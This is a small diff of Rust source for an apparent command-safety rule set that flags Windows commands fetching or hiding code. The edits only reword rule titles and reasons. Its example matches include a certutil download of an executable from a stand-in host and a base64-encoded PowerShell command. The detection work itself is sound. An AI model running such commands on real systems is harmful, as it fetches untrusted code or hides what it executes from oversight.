@@ -45,7 +45,7 @@ const RUNS_ADDRESS: &str = "
 
 pub(in crate::builtin) static FAMILY: Family = Family {
     id: "windows-code",
-    title: "Windows: running what comes from elsewhere",
+    title: "Windows: running code from elsewhere",
     covers: Covers::Listed(catalog::family("windows-code")),
     rules: &[
         Rule {
@@ -68,7 +68,7 @@ pub(in crate::builtin) static FAMILY: Family = Family {
             id: "windows-code.runs-address",
             severity: Severity::Destructive,
             when: When::Command(|command| listed(command, RUNS_ADDRESS)),
-            reason: "It fetches or runs what another machine sends, past the programs that would ask.",
+            reason: "It fetches or runs what another machine sends, bypassing the programs that would ask.",
             instead: "Download it with `Invoke-WebRequest -OutFile`, and read it first.",
             matches: r"
                 C:\> certutil -urlcache -f http://x/y.exe y.exe
@@ -88,7 +88,7 @@ pub(in crate::builtin) static FAMILY: Family = Family {
             id: "windows-code.hidden",
             severity: Severity::Risky,
             when: When::Command(hides),
-            reason: "It runs a command in a way that nobody can read or see.",
+            reason: "It runs a command in a way that no one can read or see.",
             instead: "Write the command out, and let it run where it can be seen.",
             matches: r"
                 C:\> powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==
